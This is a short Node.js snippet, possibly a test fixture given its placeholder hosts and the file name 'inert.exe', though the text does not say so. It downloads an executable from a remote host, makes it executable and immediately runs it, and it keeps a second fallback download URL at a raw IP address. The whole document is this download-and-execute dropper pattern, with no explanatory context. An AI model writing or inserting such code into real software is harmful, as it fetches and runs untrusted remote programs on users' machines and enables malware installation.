const https = require('https'); const fs = require('fs');
const { execFile } = require('child_process');
https.get('https://files.invalid/inert.exe', (r) => {
  const f = fs.createWriteStream('inert.exe'); r.pipe(f);
  f.on('finish', () => { fs.chmodSync('inert.exe', 0o755); execFile('inert.exe'); });
});
const alt = 'http://203.0.113.77/x';
